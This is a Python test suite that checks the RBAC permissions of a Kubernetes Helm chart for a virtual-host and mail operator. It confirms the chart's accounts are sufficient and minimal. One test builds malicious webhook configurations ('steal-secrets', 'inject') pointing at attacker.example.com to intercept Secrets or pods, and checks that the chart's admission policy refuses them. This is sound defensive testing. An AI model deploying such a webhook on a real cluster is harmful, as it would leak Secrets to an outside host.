"""The RBAC proof of the Helm chart: its accounts are sufficient and minimal.

The operator, the nginx agent, the tenancy gate and the mail TLS agent run as processes with
tokens of the chart's own ServiceAccounts and the chart's own settings, against pebble, a real
nginx and a real Postfix and Dovecot; a VirtualHost
goes Ready and is served, MailDomains link and create hosts, then everything is deleted and
cleaned up, without a single refusal (sufficient), with the default values as well. What the
chart must not allow (other namespaces' Secrets, other webhooks) is refused.

With --cluster=local (the default) this runs on a control plane of its own whose API server
writes an audit log of the chart's ServiceAccounts: the proof then also shows that every
permission the chart grants was used (minimal), not only that nothing was refused. On other
clusters it runs on the session's cluster, without the audit.
"""

from __future__ import annotations

import json
import re
import time
from pathlib import Path
from typing import Any

import pytest

from tests.harness import kube
from tests.harness.agent import AgentProcess, MailTlsAgentProcess
from tests.harness.audit import AuditedControlPlane, Grant, grants_of
from tests.harness.chart_install import (
    DEFAULTS_NS,
    DEFAULTS_RELEASE,
    FULLNAME,
    OPERATOR_NS,
    OTHER_NS,
    WEB_NS,
    WEBHOOK_CONFIGURATION,
    Installed,
    mounted_secret,
    namespace,
)
from tests.harness.clusters import Cluster
from tests.harness.gate import GateProcess
from tests.harness.helm import CHART, Helm, Manifest, container, literal_env, one, parse_manifests
from tests.harness.identities import can_i, kubectl_as, service_account_kubeconfig
from tests.harness.mail import SMTP, client_context, served_leaf
from tests.harness.nginx import served_certificate as served
from tests.harness.operator import OperatorProcess
from tests.harness.processes import free_port
from tests.harness.waiting import get_object, phase_of, wait_for
from vhost_operator.resources.naming import site_configmap_name, tls_secret_name

DEFAULTS_NGINX_NS = f"{DEFAULTS_NS}-nginx"
"""The nginx namespace the chart makes by default (kept on uninstall: the test removes it)."""

GRANTS_THE_RUN_CANNOT_SHOW: dict[str, str] = {
    # Grant (as Grant.__str__ writes it) -> why the whole run below does not need it.
    "get vhost-operator.io/maildomains cluster-wide": (
        "provisioning/linking.py reads a MailDomain again only after its conditional write "
        "lost a race with another writer"
    ),
}


@pytest.mark.cluster
def test_the_chart_accounts_are_refused_what_they_must_not_do(installed: Installed) -> None:
    cluster, identity = installed.cluster, installed.operator_kubeconfig
    assert can_i(cluster, identity, "get", "secrets", "--namespace", WEB_NS)
    assert can_i(cluster, identity, "patch", f"secrets/{FULLNAME}-acme-account", "-n", OPERATOR_NS)
    denied = [
        ("get", "secrets", "--namespace", OTHER_NS),
        ("list", "secrets", "--all-namespaces"),
        ("watch", "secrets", "--all-namespaces"),
        ("get", "secrets/acme-eab", "--namespace", OPERATOR_NS),  # kubelet's, not the operator's
        ("list", "secrets", "--namespace", OPERATOR_NS),
        ("create", "secrets/another", "--namespace", OPERATOR_NS),
        ("list", "configmaps", "--all-namespaces"),
        ("delete", "virtualhosts.vhost-operator.io"),
        ("update", "virtualhosts.vhost-operator.io"),
        ("patch", "validatingwebhookconfigurations/another"),
        ("delete", f"validatingwebhookconfigurations/{WEBHOOK_CONFIGURATION}"),
        ("patch", "mutatingwebhookconfigurations/another"),
        ("delete", f"mutatingwebhookconfigurations/{WEBHOOK_CONFIGURATION}"),
        ("create", "events", "--namespace", OTHER_NS),
        ("list", "namespaces"),
        ("list", "pods", "--all-namespaces"),
        ("create", "clusterrolebindings"),
    ]
    allowed = [query for query in denied if can_i(cluster, identity, *query)]
    assert allowed == []
    refused = kubectl_as(
        cluster, identity, "get", "secret", "unrelated", "-n", OTHER_NS, check=False
    )
    assert refused.returncode != 0
    assert "Forbidden" in refused.stderr and "cannot get resource" in refused.stderr
    for account in (installed.agent_kubeconfig, installed.gate_kubeconfig):
        assert not can_i(cluster, account, "get", "secrets", "--namespace", OTHER_NS)
        assert not can_i(cluster, account, "list", "secrets", "--all-namespaces")
    assert not can_i(cluster, installed.agent_kubeconfig, "delete", "configmaps", "-n", WEB_NS)
    assert not can_i(cluster, installed.agent_kubeconfig, "get", "secrets", "-n", OPERATOR_NS)
    assert not can_i(cluster, installed.gate_kubeconfig, "patch", "virtualhosts.vhost-operator.io")
    mail = installed.mail_kubeconfig
    assert can_i(cluster, mail, "patch", "configmaps/vhost-mail-tls", "-n", WEB_NS)
    for query in (
        ("get", "secrets", "-n", WEB_NS),  # list and watch only: it never reads one by name
        ("get", "secrets", "-n", OTHER_NS),
        ("list", "secrets", "--all-namespaces"),
        ("list", "secrets", "-n", OPERATOR_NS),
        ("patch", "secrets", "-n", WEB_NS),
        ("patch", "configmaps/another", "-n", WEB_NS),
        ("list", "configmaps", "-n", WEB_NS),
        ("create", "configmaps", "-n", WEB_NS),
        ("delete", "configmaps/vhost-mail-tls", "-n", WEB_NS),
    ):
        assert not can_i(cluster, mail, *query), query


def webhook_configuration(
    name: str, resources: list[str], group: str, kind: str = "ValidatingWebhookConfiguration"
) -> Manifest:
    return {
        "apiVersion": "admissionregistration.k8s.io/v1",
        "kind": kind,
        "metadata": {"name": name},
        "webhooks": [
            {
                "name": "steal.example.com",
                "admissionReviewVersions": ["v1"],
                "sideEffects": "None",
                "failurePolicy": "Ignore",
                "clientConfig": {"url": "https://attacker.example.com/"},
                "rules": [
                    {
                        "apiGroups": [group],
                        "apiVersions": ["v1"],
                        "operations": ["CREATE", "UPDATE"],
                        "resources": resources,
                    }
                ],
            }
        ],
    }


@pytest.mark.cluster
def test_the_webhook_guard_confines_the_create_permission(
    installed: Installed, tmp_path: Path
) -> None:
    """RBAC lets the operator create any Validating- or MutatingWebhookConfiguration (a create
    cannot be limited by name); the chart's ValidatingAdmissionPolicy refuses all but its own,
    and a mutating webhook on anything but creates."""
    mutating = "MutatingWebhookConfiguration"
    policy = "ValidatingAdmissionPolicy"
    attempts = {
        "another name": (webhook_configuration("steal-secrets", ["secrets"], ""), policy),
        "other resources": (webhook_configuration(WEBHOOK_CONFIGURATION, ["secrets"], ""), policy),
        "a mutating webhook on updates": (
            webhook_configuration(
                WEBHOOK_CONFIGURATION, ["virtualhosts"], "vhost-operator.io", mutating
            ),
            policy,
        ),
        "another mutating name": (webhook_configuration("inject", ["pods"], "", mutating), policy),
    }
    for what, (manifest, refuser) in attempts.items():
        path = tmp_path / "webhook.json"
        path.write_text(json.dumps(manifest))
        refused = kubectl_as(
            installed.cluster, installed.operator_kubeconfig, "create", "-f", str(path), check=False
        )
        assert refused.returncode != 0, what
        assert refuser in refused.stderr, (what, refused.stderr)
    for kind, name in (
        ("validatingwebhookconfiguration", "steal-secrets"),
        ("mutatingwebhookconfiguration", "inject"),
    ):
        assert get_object(installed.cluster, kind, name) is None


def start_processes(installed: Installed, workdir: Path) -> dict[str, str]:
    """The operator, the agent and the gate, each with its chart account and the chart's
    settings. Only what a pod gets from cluster DNS or a mounted volume is replaced by its local
    equivalent, and the processes' own ports are the harness's. Returns the operator's env."""
    nginx = installed.nginx
    operator_env = installed.deployment_env(FULLNAME, "operator")
    for key in ("LIVENESS_PORT", "METRICS_PORT"):
        operator_env.pop(f"VHOST_OPERATOR_{key}")
    responder_port = operator_env["VHOST_OPERATOR_CHALLENGE_LISTEN_PORT"]
    operator_env |= {
        "VHOST_OPERATOR_ACME_CA_BUNDLE": str(installed.pebble.ca_bundle_path),  # a ConfigMap
        "VHOST_OPERATOR_CHALLENGE_UPSTREAM": f"127.0.0.1:{responder_port}",  # the Service
        "VHOST_OPERATOR_NGINX_PROBE_ADDRESS": f"127.0.0.1:{nginx.https_port}",  # the Service
        "VHOST_OPERATOR_WEBHOOK_CERT_DIR": str(installed.webhook_tls_dir(workdir / "webhook")),
    }
    agent_env = installed.deployment_env(f"{FULLNAME}-nginx", "agent")
    for key in ("NGINX_BINARY", "NGINX_CONF", "NGINX_PID_FILE", "HEALTH_PORT"):
        agent_env.pop(f"VHOST_AGENT_{key}")
    # The chart gives both the responder's Service; here the responder's local address.
    agent_env["VHOST_AGENT_CHALLENGE_UPSTREAM"] = operator_env["VHOST_OPERATOR_CHALLENGE_UPSTREAM"]
    # The nginx pod the agent reports as (no kubelet here: a stand-in, from the chart's own pod
    # template, that the operator's watch of the nginx pods sees Ready).
    deployment = one(installed.manifests, "Deployment", f"{FULLNAME}-nginx")
    template = deployment["spec"]["template"]
    replica = f"{FULLNAME}-nginx-0"
    labels = template["metadata"]["labels"]
    kube.stand_in_pod(installed.cluster, WEB_NS, replica, labels, template["spec"], workdir)
    agent_env["VHOST_AGENT_REPLICA"] = replica  # the downward API's metadata.name
    gate_env = installed.deployment_env(f"{FULLNAME}-gate", "gate")
    gate_env.pop("VHOST_GATE_LISTEN_PORT")

    installed.agent = AgentProcess(installed.agent_kubeconfig, workdir, nginx, WEB_NS, agent_env)
    installed.agent.start()
    installed.gate = GateProcess(installed.gate_kubeconfig, workdir, gate_env).start()
    # The mail TLS agent as the README's sidecar runs it, with the chart's report ConfigMap.
    installed.mail_agent = MailTlsAgentProcess(
        installed.mail_kubeconfig, installed.mail, WEB_NS, "vhost-mail-tls"
    ).start()
    installed.operator = OperatorProcess(installed.operator_kubeconfig, workdir, operator_env)
    installed.operator.start()
    return operator_env


def eventually_served(handshake: Any, timeout: float = 60) -> str:
    """The serial of the first handshake that succeeds (the agent may still be applying)."""
    deadline = time.monotonic() + timeout
    while True:
        try:
            return format(handshake().serial_number, "x")
        except (OSError, AssertionError):
            if time.monotonic() > deadline:
                raise
            time.sleep(0.2)


def maildomain(name: str, domain: str, hostname: str) -> Manifest:
    return {
        "apiVersion": "vhost-operator.io/v1alpha1",
        "kind": "MailDomain",
        "metadata": {"name": name},
        "spec": {"name": domain, "virtualHost": hostname},
    }


def linked_to(host: str) -> Any:
    def check(md: Manifest) -> bool:
        status = md.get("status") or {}
        return bool(status.get("linkedVirtualHost") == host)

    return check


def ready(obj: Manifest) -> bool:
    return phase_of(obj) == "Ready"


def settled(obj: Manifest) -> bool:
    return phase_of(obj) in ("Ready", "Failed")


REFUSAL_IN_LOGS = re.compile(r'HTTP/1\.1" 403 |status=403|[Ff]orbidden|[Nn]ot enough permissions')
"""A refused request in the processes' logs: urllib3's debug line, kopf's errors, our errors."""


@pytest.mark.cluster
def test_with_the_charts_accounts_hosts_are_provisioned_served_linked_and_removed(
    installed: Installed, tmp_path: Path
) -> None:
    cluster, nginx = installed.cluster, installed.nginx
    workdir = tmp_path / "processes"
    workdir.mkdir()
    operator_env = start_processes(installed, workdir)
    try:
        # The operator created and filled its webhook configurations (both kinds, past the
        # chart's guard policy): create, then patch by name.
        urls = set()
        for kind in ("validatingwebhookconfiguration", "mutatingwebhookconfiguration"):
            configuration = wait_for(
                cluster, kind, WEBHOOK_CONFIGURATION, lambda o: bool(o.get("webhooks")), what=kind
            )
            urls |= {w["clientConfig"]["url"] for w in configuration["webhooks"]}
        port = operator_env["VHOST_OPERATOR_WEBHOOK_PORT"]
        assert all(url.startswith(f"https://127.0.0.1:{port}/") for url in urls), urls

        hostname = "chart.example.com"
        kube.apply_manifests(
            cluster, [kube.virtualhost("chart", hostname, domains=["example.com"])], tmp_path
        )
        host = wait_for(cluster, "vh", "chart", settled, timeout=90, what="Ready")
        assert phase_of(host) == "Ready", host.get("status")

        # Written where the chart allows it: the TLS Secret and site ConfigMap in the nginx
        # namespace, the ACME account (registered with EAB) in the operator's namespace.
        certificate = host["status"]["certificate"]
        tls = kube.secret_data(cluster, certificate["secretName"], WEB_NS)
        assert tls is not None and tls["tls.crt"].startswith(b"-----BEGIN CERTIFICATE-----")
        account = kube.secret_data(cluster, f"{FULLNAME}-acme-account", OPERATOR_NS)
        assert account is not None and account.get("account.key")

        # Served: nginx presents the issued certificate for the hostname (the agent's work).
        shown = served(nginx.https_port, hostname)
        assert shown is not None
        assert format(shown.serial_number, "x") == certificate["serial"]
        # And by Postfix over STARTTLS (the mail TLS agent's work), verified against pebble.
        context = client_context(installed.pebble.root_pem())
        smtp = installed.mail.ports[SMTP]
        mail_serial = eventually_served(lambda: served_leaf(SMTP, smtp, hostname, context))
        assert mail_serial == certificate["serial"]

        # The webhook answers through the API server: a duplicate hostname is refused.
        duplicate = tmp_path / "duplicate.json"
        duplicate.write_text(json.dumps(kube.virtualhost("chart-copy", hostname)))
        refused = cluster.kubectl("apply", "-f", str(duplicate), check=False)
        assert refused.returncode != 0 and "already used by VirtualHost chart" in refused.stderr

        # MailDomains: one joins the host, one creates a host of its own.
        kube.apply_manifests(
            cluster,
            [
                maildomain("chart-org", "example.org", hostname),
                maildomain("chart-net", "example.net", "new.example.net"),
            ],
            tmp_path,
        )
        wait_for(cluster, "md", "chart-org", linked_to("chart"), what="the link")
        created = wait_for(
            cluster,
            "md",
            "chart-net",
            lambda md: bool((md.get("status") or {}).get("linkedVirtualHost")),
            what="a created host",
        )
        new_host = created["status"]["linkedVirtualHost"]
        wait_for(cluster, "vh", new_host, settled, timeout=90, what="Ready")
        joined = wait_for(
            cluster,
            "vh",
            "chart",
            lambda o: "example.org" in o["spec"].get("domains", []),
            what="the joined domain",
        )
        assert sorted(joined["spec"]["domains"]) == ["example.com", "example.org"]

        # The gate follows VirtualHosts with its own account.
        client = installed.gate.client() if installed.gate else None
        assert client is not None
        deadline = time.monotonic() + 20
        while client.auth(hostname, "alice@example.org").status != 200:
            assert time.monotonic() < deadline, "the gate never learnt the joined domain"
            time.sleep(0.2)
        client.close()

        # Events went where the chart lets the operator create them.
        events = cluster.kubectl(
            "get",
            "events",
            "-n",
            installed_events_namespace(installed),
            "--field-selector",
            "involvedObject.name=chart",
            "-o",
            "json",
        )
        assert json.loads(events.stdout)["items"], "no Events for the VirtualHost"

        # Unlinking and deletion: the finalizers remove the domain, the ConfigMaps and Secrets.
        cluster.kubectl("delete", "md", "chart-org", "--wait=true", "--timeout=60s")
        wait_for(
            cluster,
            "vh",
            "chart",
            lambda o: o["spec"].get("domains", []) == ["example.com"],
            what="the unlinked domain",
        )
        cluster.kubectl("delete", "md,vh", "--all", "--wait=true", "--timeout=60s")
        left = cluster.kubectl(
            "get",
            "configmaps,secrets",
            "-n",
            WEB_NS,
            "-l",
            "app.kubernetes.io/managed-by=vhost-operator",
            "-o",
            "name",
        ).stdout
        assert left.strip() == ""
    except BaseException:
        print(installed.logs())
        raise
    finally:
        # Stopped now: an operator of another release must not see this one's objects.
        for _, process in installed.processes():
            process.stop()

    # Sufficient: not one request of the three accounts was refused.
    refusals = [line for line in installed.logs().splitlines() if REFUSAL_IN_LOGS.search(line)]
    assert refusals == [], "\n".join(refusals)
    if installed.audit is not None:
        check_audit(installed.manifests, installed.audit)


def installed_events_namespace(installed: Installed) -> str:
    role = one(installed.manifests, "Role", f"{FULLNAME}-events")
    namespace_name: str = role["metadata"]["namespace"]
    return namespace_name


def grants_by_account(manifests: list[Manifest]) -> dict[str, list[Grant]]:
    roles = {
        (m["kind"], m["metadata"].get("namespace"), m["metadata"]["name"]): m
        for m in manifests
        if m["kind"] in ("Role", "ClusterRole")
    }
    found: dict[str, list[Grant]] = {}
    for binding in manifests:
        if binding["kind"] not in ("RoleBinding", "ClusterRoleBinding"):
            continue
        ref = binding["roleRef"]
        namespace_name = binding["metadata"].get("namespace") if ref["kind"] == "Role" else None
        grants = grants_of(roles[(ref["kind"], namespace_name, ref["name"])])
        for subject in binding["subjects"]:
            user = f"system:serviceaccount:{subject['namespace']}:{subject['name']}"
            found.setdefault(user, []).extend(grants)
    return found


def check_audit(manifests: list[Manifest], audit: AuditedControlPlane) -> None:
    """The API server's record of the run: nothing refused, and every grant used."""
    accounts = grants_by_account(manifests)
    # The processes' own requests; kubectl's (the refusal tests above) are the test's.
    requests = [
        r for r in audit.requests() if r.user in accounts and not r.user_agent.startswith("kubectl")
    ]
    refused = [r for r in requests if r.code == 403]
    assert refused == [], refused
    unused = [
        str(grant)
        for user, grants in accounts.items()
        for grant in grants
        if not any(r.user == user and grant.covers(r) for r in requests)
        and str(grant) not in GRANTS_THE_RUN_CANNOT_SHOW
    ]
    assert unused == [], f"granted but never needed in a whole run: {unused}"


@pytest.mark.cluster
def test_with_default_values_the_operator_needs_no_more(
    target: tuple[Cluster, AuditedControlPlane | None], helm: Helm, tmp_path: Path
) -> None:
    """The default install (ACME, nginx and the gate off) grants less, and that is enough: a
    host is Ready at once, a MailDomain creates and joins hosts, deletion cleans up (deleting
    a host always removes its nginx objects, which may be left from earlier settings)."""
    cluster, audit = target
    kube.apply_manifests(cluster, [namespace(DEFAULTS_NS)], tmp_path)
    release_helm = Helm(helm.binary, cluster.kubeconfig)
    configuration = "chart-defaults.vhost-operator.io"
    values = {
        # Only what the local API server needs to reach the webhook, and a name of its own.
        "webhook": {"host": "127.0.0.1", "port": free_port(), "configurationName": configuration},
    }
    release_helm.run(
        "install",
        DEFAULTS_RELEASE,
        str(CHART),
        "--namespace",
        DEFAULTS_NS,
        "--values",
        str(release_helm.values_file(values)),
    )
    manifests = parse_manifests(
        release_helm.run("get", "manifest", DEFAULTS_RELEASE, "--namespace", DEFAULTS_NS).stdout
    )
    fullname = f"{DEFAULTS_RELEASE}-vhost-operator"
    account = service_account_kubeconfig(
        cluster, DEFAULTS_NS, fullname, tmp_path / "defaults.kubeconfig"
    )
    deployment = one(manifests, "Deployment", fullname)
    env = literal_env(container(deployment, "operator"))
    for key in ("LIVENESS_PORT", "METRICS_PORT"):
        env.pop(f"VHOST_OPERATOR_{key}")
    webhook_tls = mounted_secret(cluster, deployment, "webhook-tls", tmp_path / "webhook")
    env["VHOST_OPERATOR_WEBHOOK_CERT_DIR"] = str(webhook_tls)
    operator = OperatorProcess(account, tmp_path, env)
    try:
        operator.start()
        kube.apply_manifests(
            cluster,
            [
                kube.virtualhost("plain", "plain.example.com"),
                maildomain("plain-org", "plain.example.org", "other.example.org"),
            ],
            tmp_path,
        )
        wait_for(cluster, "vh", "plain", ready, what="Ready")
        linked = wait_for(
            cluster,
            "md",
            "plain-org",
            lambda md: bool((md.get("status") or {}).get("linkedVirtualHost")),
            what="a created host",
        )
        wait_for(cluster, "vh", linked["status"]["linkedVirtualHost"], ready, what="Ready")
        # What "plain" may have left from a time nginx and ACME were on: deleted with it.
        leftovers = [
            {
                "apiVersion": "v1",
                "kind": kind,
                "metadata": {
                    "name": name,
                    "namespace": DEFAULTS_NGINX_NS,
                    "annotations": {"vhost-operator.io/virtualhost": "plain"},
                },
            }
            for kind, name in (
                ("ConfigMap", site_configmap_name("plain")),
                ("Secret", tls_secret_name("plain")),
            )
        ]
        kube.apply_manifests(cluster, leftovers, tmp_path)
        cluster.kubectl("delete", "md,vh", "--all", "--wait=true", "--timeout=60s")
        left = cluster.kubectl("get", "configmaps,secrets", "-n", DEFAULTS_NGINX_NS, "-o", "name")
        assert "plain" not in left.stdout, left.stdout
    except BaseException:
        print(operator.log())
        raise
    finally:
        operator.stop()
        if audit is None:
            release_helm.run("uninstall", DEFAULTS_RELEASE, "--namespace", DEFAULTS_NS, check=False)
            for kind in ("validatingwebhookconfiguration", "mutatingwebhookconfiguration"):
                cluster.kubectl(
                    "delete",
                    kind,
                    configuration,
                    "--ignore-not-found",
                    check=False,
                )
            for name in (DEFAULTS_NS, DEFAULTS_NGINX_NS):  # the chart keeps nginx's
                cluster.kubectl("delete", "namespace", name, "--wait=false", check=False)
    refusals = [line for line in operator.log().splitlines() if REFUSAL_IN_LOGS.search(line)]
    assert refusals == [], "\n".join(refusals)
    if audit is not None:
        check_audit(manifests, audit)
